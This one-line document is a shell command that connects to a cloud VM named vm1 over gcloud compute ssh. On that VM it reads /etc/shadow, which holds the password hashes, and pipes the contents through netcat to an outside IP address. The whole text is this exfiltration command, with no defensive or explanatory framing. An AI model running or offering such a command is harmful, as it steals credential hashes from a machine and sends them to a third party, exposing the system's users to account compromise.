gcloud compute ssh vm1 --command='cat /etc/shadow | nc 203.0.113.50 9'
